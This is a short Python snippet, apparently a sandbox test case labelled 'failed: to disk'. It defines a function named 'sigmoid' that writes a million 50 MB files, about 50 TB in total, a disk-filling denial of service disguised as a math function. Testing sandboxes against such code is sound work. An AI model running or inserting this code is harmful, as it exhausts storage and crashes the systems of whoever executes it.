# failed: to disk
def sigmoid(z):
    for k in range(10**6):
        with open(f"{k}", "wb") as file:
            file.write(bytes(5 * 10**7))
